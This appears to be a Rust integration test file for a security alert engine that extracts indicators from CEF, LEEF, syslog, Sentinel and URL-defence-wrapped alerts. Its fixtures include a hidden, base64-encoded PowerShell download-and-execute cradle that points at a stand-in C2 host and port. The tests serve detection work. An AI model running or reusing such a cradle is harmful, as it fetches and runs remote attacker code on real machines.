//! Extraction through the formats forwarders wrap around indicators (pass 4's decoders), through
//! ingest on the engine under test: for each class an alert shaped the way a SIEM or forwarder
//! delivers it, its indicators as REST lists them, and where each came from — the field and the
//! decoder — in the dry run and in the agent payload (`found_in`). And the decoders' switches,
//! `@<decoder>` free-text mappings, through the mappings API.

use base64::Engine as _;
use serde_json::{Value, json};

use crate::helpers::*;
use crate::ingest::wait_enriched;

/// Ingests `payload` as `source` and waits for extraction and enrichment to settle.
async fn ingest_as(app: &TestApp, source: &str, payload: Value) -> String {
    let (status, body) =
        app.post("/v1/alerts", &app.admin_key, json!({"source_name": source, "payload": payload})).await;
    assert_eq!(status, 202, "{body}");
    let uuid = body["data"]["alert_uuid"].as_str().unwrap().to_string();
    wait_enriched(app, &uuid).await;
    uuid
}

/// `(type, value, field, decoder)` of each indicator in the alert's agent payload.
async fn found_in_payload(app: &TestApp, uuid: &str) -> Vec<(String, String, String, String)> {
    let (status, payload) = app.get(&format!("/v1/alerts/{uuid}/payload"), &app.admin_key).await;
    assert_eq!(status, 200, "{payload}");
    payload["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            let text = |v: &Value| v.as_str().unwrap_or("").to_string();
            (
                text(&i["type"]),
                text(&i["value"]),
                text(&i["found_in"]["field"]),
                text(&i["found_in"]["decoder"]),
            )
        })
        .collect()
}

/// The dry run's de-duplicated `(type, value, field, decoder)`.
async fn dry_run(app: &TestApp, source: &str, payload: &Value) -> Vec<(String, String, String, String)> {
    let (status, body) = app
        .post(
            "/v1/indicator-mappings/test-extraction",
            &app.admin_key,
            json!({"source_name": source, "raw_payload": payload}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    body["data"]["deduplicated"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            let text = |v: &Value| v.as_str().unwrap_or("").to_string();
            (text(&i["type"]), text(&i["value"]), text(&i["source_field"]), text(&i["decoder"]))
        })
        .collect()
}

fn has(
    found: &[(String, String, String, String)],
    kind: &str,
    value: &str,
    field: &str,
    decoder: &str,
) -> bool {
    found.iter().any(|(k, v, f, d)| k == kind && v == value && f == field && d == decoder)
}

fn utf16_base64(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[tokio::test]
async fn wrapped_a_cef_record_in_splunks_raw_yields_the_account_and_addresses() {
    let app = spawn_app().await;
    let raw = r"<134>Dec  1 10:00:00 fw01 CEF:0|Palo Alto Networks|PAN-OS|10.2|threat|url blocked|8|src=10.1.1.23 dst=185.220.101.4 suser=CORP\\jdoe shost=WS-042 smac=00:11:22:33:44:55 request=https://evil-cdn.top/drop.exe cs1Label=Rule cs1=block-malware";
    let payload = json!({"search_name": "PAN threat", "result": {"_raw": raw, "host": "fw01"}});
    let uuid = ingest_as(&app, "splunk", payload.clone()).await;
    let found = found_in_payload(&app, &uuid).await;
    for (kind, value) in [
        ("account", "corp\\jdoe"),
        ("ip", "185.220.101.4"),
        ("ip", "10.1.1.23"),
        ("url", "https://evil-cdn.top/drop.exe"),
    ] {
        assert!(has(&found, kind, value, "result._raw", "cef"), "{kind} {value} in {found:?}");
    }
    // `CORP\\jdoe` is an account, not a bogus domain; the MAC and the host name are nothing.
    assert!(!found.iter().any(|(k, _, _, _)| k == "domain"), "{found:?}");
    assert!(has(&dry_run(&app, "splunk", &payload).await, "account", "corp\\jdoe", "result._raw", "cef"));
}

#[tokio::test]
async fn wrapped_leef_records_and_syslog_lines_in_a_generic_webhook_read_users_as_accounts() {
    let app = spawn_app().await;
    let payload = json!({
        "title": "QRadar offense",
        "raw": "LEEF:2.0|IBM|QRadar|7.5|LOGIN_FAILED|^|src=198.51.100.77^dst=10.0.0.5^usrName=ann.lee@contoso.com^sev=7",
        "log": "<86>1 2026-12-01T10:00:00Z bastion sshd 311 - [auth@32473 user=\"svc_backup\" addr=\"203.0.113.66\"] login failed",
        "message": "kernel: IN=eth0 OUT= SRC=185.220.101.9 DST=192.0.2.10 LEN=60 PROTO=TCP SPT=4444 DPT=22",
    });
    let uuid = ingest_as(&app, "generic", payload.clone()).await;
    let found = found_in_payload(&app, &uuid).await;
    assert!(has(&found, "account", "ann.lee@contoso.com", "raw", "leef"), "{found:?}");
    assert!(has(&found, "ip", "198.51.100.77", "raw", "leef"), "{found:?}");
    assert!(has(&found, "account", "svc_backup", "log", "syslog"), "{found:?}");
    assert!(has(&found, "ip", "203.0.113.66", "log", "syslog"), "{found:?}");
    assert!(has(&found, "ip", "185.220.101.9", "message", "key-value"), "{found:?}");
    assert!(has(&dry_run(&app, "generic", &payload).await, "account", "svc_backup", "log", "syslog"));
}

#[tokio::test]
async fn wrapped_a_sentinel_security_alert_with_json_strings_yields_all_its_entities() {
    let app = spawn_app().await;
    let entities = serde_json::to_string(&json!([
        {"$id": "2", "Type": "account", "Name": "jdoe", "UPNSuffix": "contoso.com"},
        {"$id": "3", "Type": "ip", "Address": "185.220.101.48"},
        {"$id": "4", "Type": "url", "Url": "https://login-contoso.top/owa"},
        {"$id": "5", "Type": "filehash", "Algorithm": "SHA256", "Value": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"}
    ]))
    .unwrap();
    let payload = json!({
        "AlertName": "Anonymous IP address", "AlertSeverity": "Medium", "SystemAlertId": "b1d2",
        "ProductName": "Azure Active Directory Identity Protection", "StartTime": "2026-12-01T10:00:00Z",
        "Entities": entities,
        "ExtendedProperties": serde_json::to_string(&json!({"Client IP Address": "198.51.100.61"})).unwrap(),
    });
    let uuid = ingest_as(&app, "sentinel", payload.clone()).await;
    let (_, alert) = app.get(&format!("/v1/alerts/{uuid}"), &app.admin_key).await;
    assert_eq!(alert["data"]["title"], "Anonymous IP address");
    assert_eq!(alert["data"]["severity"], "Medium");
    let found = found_in_payload(&app, &uuid).await;
    for (kind, value, field) in [
        ("account", "jdoe@contoso.com", "Entities[account].Name"),
        ("ip", "185.220.101.48", "Entities[ip].Address"),
        ("url", "https://login-contoso.top/owa", "Entities[url].Url"),
        (
            "hash_sha256",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "Entities[filehash].Value",
        ),
        ("ip", "198.51.100.61", "ExtendedProperties"),
    ] {
        assert!(has(&found, kind, value, field, "json"), "{kind} {value} in {found:?}");
    }
}

#[tokio::test]
async fn wrapped_an_encoded_powershell_command_reveals_its_urls() {
    let app = spawn_app().await;
    let command = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9:8080/a.ps1'); iwr http://c2.evil-cdn.top/beacon";
    let payload = json!({
        "kibana.alert.rule.name": "Encoded PowerShell",
        "process": {"command_line": format!("powershell.exe -NoP -W Hidden -enc {}", utf16_base64(command))},
    });
    let uuid = ingest_as(&app, "elastic", payload.clone()).await;
    let found = found_in_payload(&app, &uuid).await;
    assert!(
        has(&found, "url", "http://203.0.113.9:8080/a.ps1", "process.command_line", "powershell-base64"),
        "{found:?}"
    );
    assert!(
        has(&found, "url", "http://c2.evil-cdn.top/beacon", "process.command_line", "powershell-base64"),
        "{found:?}"
    );
    assert!(has(
        &dry_run(&app, "elastic", &payload).await,
        "url",
        "http://203.0.113.9:8080/a.ps1",
        "process.command_line",
        "powershell-base64"
    ));
}

#[tokio::test]
async fn wrapped_url_defence_wrappers_give_the_real_urls_and_never_themselves() {
    let app = spawn_app().await;
    let payload = json!({
        "title": "User clicked a link",
        "description": "Clicked https://nam02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fpayroll-verify.top%2Flogin&data=05%7C02&sdata=x&reserved=0 \
                        then https://urldefense.proofpoint.com/v2/url?u=http-3A__invoice-2Dshare.top_doc.html&d=DwMF&c=x&r=y&m=z&s=w&e= \
                        and https://urldefense.com/v3/__https://evil-cdn.top/a*b*c__;Pz0!!ABC!def$ \
                        via https://protect-eu.mimecast.com/s/AbCd?domain=payr0ll-update.com",
    });
    let uuid = ingest_as(&app, "generic", payload).await;
    let found = found_in_payload(&app, &uuid).await;
    for (kind, value) in [
        ("url", "https://payroll-verify.top/login"),
        ("url", "http://invoice-share.top/doc.html"),
        ("url", "https://evil-cdn.top/a?b=c"),
        ("domain", "payr0ll-update.com"),
    ] {
        assert!(has(&found, kind, value, "description", "url-defence"), "{kind} {value} in {found:?}");
    }
    for wrapper in ["safelinks", "urldefense", "mimecast"] {
        assert!(!found.iter().any(|(_, v, _, _)| v.contains(wrapper)), "{wrapper} reported: {found:?}");
    }
}

#[tokio::test]
async fn wrapped_host_port_forms_yield_the_address() {
    let app = spawn_app().await;
    let payload = json!({
        "title": "Outbound C2",
        "description": "beacon to 203.0.113.7:4444 and [2001:db8::5]:443, fallback evil-c2.top:8443",
    });
    let uuid = ingest_as(&app, "generic", payload).await;
    let found = found_in_payload(&app, &uuid).await;
    let values: Vec<(&str, &str)> = found.iter().map(|(k, v, _, _)| (k.as_str(), v.as_str())).collect();
    for expected in [("ip", "203.0.113.7"), ("ip", "2001:db8::5"), ("domain", "evil-c2.top")] {
        assert!(values.contains(&expected), "{expected:?} in {values:?}");
    }
}

#[tokio::test]
async fn wrapped_each_decoder_has_a_switch_and_unknown_switches_are_refused() {
    let app = spawn_app().await;
    let payload = json!({"title": "t", "raw": "CEF:0|Acme|FW|1|1|Blocked|5|src=198.51.100.7 suser=ann"});
    assert!(has(&dry_run(&app, "generic", &payload).await, "account", "ann", "raw", "cef"));
    let mapping = |path: &str, target: &str| {
        json!({"field_path": path, "indicator_type": "account", "extraction_target": target,
               "source_name": "generic", "is_active": false})
    };
    let (status, body) =
        app.post("/v1/indicator-mappings", &app.admin_key, mapping("@cef", "free_text")).await;
    assert_eq!(status, 201, "{body}");
    let found = dry_run(&app, "generic", &payload).await;
    assert!(!found.iter().any(|(_, _, _, d)| d == "cef"), "the CEF decoder is off: {found:?}");
    // Refused like every bad mapping, with the decoders it knows.
    let (status, body) =
        app.post("/v1/indicator-mappings", &app.admin_key, mapping("@qradar", "free_text")).await;
    assert_eq!(status, 422, "{body}");
    let message = body["error"]["details"]["errors"][0]["msg"].as_str().unwrap_or_default().to_string();
    assert!(message.contains("@cef") && message.contains("@powershell-base64"), "{body}");
    let (status, body) =
        app.post("/v1/indicator-mappings", &app.admin_key, mapping("@cef", "raw_payload")).await;
    assert_eq!(status, 422, "{body}");
}

#[tokio::test]
async fn wrapped_the_console_shows_the_decoder_in_the_dry_run_and_on_the_alert_page() {
    let app = spawn_app().await;
    let mut browser = crate::console::Browser::new(&app);
    browser.sign_in(&app.admin_key).await;
    let cef = json!({"title": "t", "raw": "CEF:0|Acme|FW|1|1|Blocked|5|src=198.51.100.7 suser=CORP\\\\ann"});
    browser.get("/settings/mappings").await;
    let page = browser
        .post(
            "/settings/mappings/test-extraction",
            &[("source_name", "generic"), ("raw_payload", &serde_json::to_string(&cef).unwrap())],
        )
        .await;
    assert_eq!(page.status, 200, "{}", page.body);
    assert!(page.body.contains("<span class=\"indicator-decoder\">cef</span>"), "{}", page.body);

    let command = "iwr http://203.0.113.9:8080/stage";
    let uuid = ingest_as(
        &app,
        "generic",
        json!({"title": "Encoded", "command_line": format!("powershell -enc {}", utf16_base64(command))}),
    )
    .await;
    let page = browser.get(&format!("/alerts/{uuid}")).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("decoded as <span class=\"indicator-decoder\">powershell-base64</span>"),
        "{}",
        page.body
    );
}
